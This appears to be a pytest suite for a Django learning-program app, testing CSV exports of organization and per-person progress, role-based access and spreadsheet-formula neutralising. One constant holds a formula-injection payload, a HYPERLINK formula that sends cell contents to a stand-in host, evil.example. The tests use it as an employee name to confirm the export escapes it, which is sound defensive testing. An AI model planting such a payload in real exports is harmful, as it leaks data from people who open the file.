"""CSV exports: organization progress for everyone signed in, person-level status for L&D
admins and for sponsors and champions of the organization; spreadsheet formulas
neutralised. Numbers as of 2026-07-02 (program 2026-01-01 .. 2026-12-31, target 90%)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from programs.models import Employee
from reports.exports import spreadsheet_safe
from reports.models import ProgressSnapshot
from tests.factories import CourseFactory, EmployeeFactory, EnrollmentFactory, org

pytestmark = pytest.mark.django_db

AS_OF = "2026-07-02"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def at(day: str, hour: int = 12) -> dt.datetime:
    return dt.datetime.fromisoformat(day).replace(hour=hour, tzinfo=dt.UTC)


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


@pytest.fixture
def company(personas):
    """Acme: Alice (admin, no completion). Engineering: Sam Sponsor (met, activity 06-20),
    Chris Champion, Bob Builder (met), the formula person (none). Sales: Charlie (none).
    A week before (06-25) the company snapshot was 20% and Engineering's 25%."""
    course = CourseFactory(title="Course")
    EnrollmentFactory(
        employee=personas.sponsor,
        course=course,
        is_completed=True,
        completed_at=at("2026-03-01"),
        last_activity_at=at("2026-06-20", 9),
    )
    EnrollmentFactory(employee=personas.employee, course=course, is_completed=True, completed_at=at("2026-04-01"))
    evil = EmployeeFactory(email="eve@acme.example", full_name=EVIL, organization=personas.engineering, title="+1 dev")
    for organization, rate in [(None, 0.2), (personas.engineering, 0.25)]:
        ProgressSnapshot.objects.create(
            program=personas.program,
            organization=organization,
            day=dt.date(2026, 6, 25),
            eligible=4,
            met=1,
            completions=1,
            curated_completions=0,
            rate=rate,
        )
    return evil


# --- The one neutralising function ------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EVIL, "'" + EVIL),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Alice = admin", "Alice = admin"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (-0.05, "-0.05"),
        (True, "yes"),
    ],
)
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


# --- Organizations ------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["admin", "sponsor", "champion", "employee", "outsider"])
def test_organizations_csv_for_everyone_signed_in(personas, company, who):
    response = personas.client_for(getattr(personas, who)).get("/reports/export/organizations.csv", {"as_of": AS_OF})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="learning-program-2026-organizations-2026-07-02.csv"'
    )
    assert rows_of(response) == [
        [
            "organization",
            "path",
            "depth",
            "eligible",
            "met",
            "rate",
            "target",
            "change_7_days",
            "completions",
            "curated_completions",
            "curated_share",
            "as_of",
        ],
        ["(company)", "", "", "6", "2", "0.3333", "0.9", "0.1333", "2", "0", "0.0", AS_OF],
        ["Acme", "Acme", "0", "6", "2", "0.3333", "0.9", "", "2", "0", "0.0", AS_OF],
        ["Engineering", "Acme/Engineering", "1", "4", "2", "0.5", "0.9", "0.25", "2", "0", "0.0", AS_OF],
        ["Sales", "Acme/Sales", "1", "1", "0", "0.0", "0.9", "", "0", "0", "", AS_OF],
    ]


def test_organizations_csv_needs_sign_in(personas):
    response = personas.client_for(None).get("/reports/export/organizations.csv")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_organizations_csv_bad_date_exports_nothing(personas, company):
    response = personas.client_for(personas.employee).get("/reports/export/organizations.csv", {"as_of": "2026-02-30"})
    assert response.status_code == 400
    assert response.content.decode() == "Nothing was exported.\n“2026-02-30” is not a date: use as_of=YYYY-MM-DD."


# --- People -------------------------------------------------------------------------------

PEOPLE_HEADER = [
    "full_name",
    "email",
    "external_id",
    "organization",
    "title",
    "counted_courses",
    "met_goal",
    "last_activity_at",
    "as_of",
]


def engineering_rows(personas) -> list[list[str]]:
    def row(person: Employee, courses: int, met: str, activity: str = "") -> list[str]:
        return [
            person.full_name,
            person.email,
            person.external_id,
            "Acme/Engineering",
            person.title,
            str(courses),
            met,
            activity,
            AS_OF,
        ]

    evil = Employee.objects.get(email="eve@acme.example")
    evil_row = row(evil, 0, "no")
    evil_row[0], evil_row[4] = "'" + EVIL, "'+1 dev"
    return [
        evil_row,
        # One rule of "last activity" (reports.people): Bob's completion is his latest provider time.
        row(personas.employee, 1, "yes", "2026-04-01T12:00:00+00:00"),
        row(personas.champion, 0, "no"),
        row(personas.sponsor, 1, "yes", "2026-06-20T09:00:00+00:00"),
    ]


@pytest.mark.parametrize("who", ["admin", "sponsor", "champion"])
def test_people_csv_of_engineering(personas, company, who):
    response = personas.client_for(getattr(personas, who)).get(
        "/reports/export/people.csv", {"org": personas.engineering.pk, "as_of": AS_OF}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="learning-program-2026-acme-engineering-people-2026-07-02.csv"'
    )
    assert rows_of(response) == [PEOPLE_HEADER, *engineering_rows(personas)]


def test_formula_in_a_name_is_exported_as_text(personas, company):
    response = personas.client_for(personas.admin).get("/reports/export/people.csv", {"as_of": AS_OF})
    raw = response.content.decode()
    assert "'=HYPERLINK(" in raw
    assert '"=HYPERLINK' not in raw and "\n=HYPERLINK" not in raw
    assert [r[0] for r in rows_of(response) if "HYPERLINK" in r[0]] == ["'" + EVIL]


@pytest.mark.parametrize("who", ["sponsor", "champion"])
def test_sponsor_and_champion_get_their_own_organization_by_default(personas, company, who):
    response = personas.client_for(getattr(personas, who)).get("/reports/export/people.csv", {"as_of": AS_OF})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="learning-program-2026-people-2026-07-02.csv"'
    assert rows_of(response) == [PEOPLE_HEADER, *engineering_rows(personas)]


def test_admin_gets_the_whole_company(personas, company):
    response = personas.client_for(personas.admin).get("/reports/export/people.csv", {"as_of": AS_OF})
    assert response.status_code == 200
    assert [(r[1], r[3], r[6]) for r in rows_of(response)[1:]] == [
        ("alice@acme.example", "Acme", "no"),
        ("eve@acme.example", "Acme/Engineering", "no"),
        ("bob@acme.example", "Acme/Engineering", "yes"),
        ("chris@acme.example", "Acme/Engineering", "no"),
        ("sam@acme.example", "Acme/Engineering", "yes"),
        ("charlie@acme.example", "Acme/Sales", "no"),
    ]


@pytest.mark.parametrize(
    ("who", "org_param"),
    [
        ("employee", None),
        ("employee", "engineering"),
        ("outsider", None),
        ("outsider", "engineering"),
        ("outsider", "sales"),
        ("champion", "sales"),
        ("sponsor", "sales"),
        ("champion", "acme"),
    ],
)
def test_people_csv_refused(personas, company, who, org_param):
    params = {"as_of": AS_OF}
    if org_param is not None:
        target = {"engineering": personas.engineering, "sales": personas.sales, "acme": org("Acme")}[org_param]
        params["org"] = str(target.pk)
    before = list(Employee.objects.order_by("pk").values_list("pk", "full_name", "email", "organization_id"))
    response = personas.client_for(getattr(personas, who)).get("/reports/export/people.csv", params)
    assert response.status_code == 403
    # The refusal page's content (its header names the viewer, who may be Bob or Charlie).
    body = response.content.decode().partition("<main")[2].partition("</main>")[0]
    assert "Content-Disposition" not in response
    assert "Nina" not in body and "charlie@acme.example" not in body and "bob@acme.example" not in body
    assert list(Employee.objects.order_by("pk").values_list("pk", "full_name", "email", "organization_id")) == before


def test_people_csv_needs_sign_in(personas):
    response = personas.client_for(None).get("/reports/export/people.csv")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def test_people_csv_bad_org(personas, company):
    client = personas.client_for(personas.admin)
    response = client.get("/reports/export/people.csv", {"org": "engineering"})
    assert response.status_code == 400
    assert response.content.decode() == "“engineering” is not an organization id: use org=<number>."
    assert client.get("/reports/export/people.csv", {"org": "999999"}).status_code == 404


def test_people_csv_query_count_does_not_grow(personas, company, django_assert_num_queries):
    """One query for the people whatever their number (plus session, user, program choice
    and the access checks: the programs, the L&D role in one query, the appointments)."""
    client = personas.client_for(personas.champion)
    params = {"org": personas.engineering.pk, "as_of": AS_OF}
    with django_assert_num_queries(8):
        assert len(rows_of(client.get("/reports/export/people.csv", params))) == 5
    team = org("Acme/Engineering/Team")
    course = CourseFactory()
    for _ in range(40):
        EnrollmentFactory(
            employee=EmployeeFactory(organization=team), course=course, is_completed=True, completed_at=at("2026-05-01")
        )
    with django_assert_num_queries(8):
        assert len(rows_of(client.get("/reports/export/people.csv", params))) == 45


def test_the_champions_list_and_the_export_show_the_same_last_activity(personas, company):
    """One rule of "last activity" (reports.people.last_provider_activity): the latest of
    any enrollment's activity, enrollment and completion time, on every page and file."""
    EnrollmentFactory(
        employee=personas.champion,
        course=CourseFactory(provider_course_id="LATE1"),
        enrolled_at=dt.datetime(2026, 5, 3, 8, tzinfo=dt.UTC),
        last_activity_at=dt.datetime(2026, 4, 1, 8, tzinfo=dt.UTC),
    )
    champion = personas.client_for(personas.champion)

    listed = {
        p.email: p.last_activity_at
        for p in champion.get(f"/champions/not-yet/{personas.engineering.pk}/").context["people"]
    }
    exported = {
        r[1]: r[7]
        for r in rows_of(champion.get("/reports/export/people.csv", {"org": personas.engineering.pk, "as_of": AS_OF}))
    }

    assert listed["chris@acme.example"] == dt.datetime(2026, 5, 3, 8, tzinfo=dt.UTC)
    assert exported["chris@acme.example"] == "2026-05-03T08:00:00+00:00"
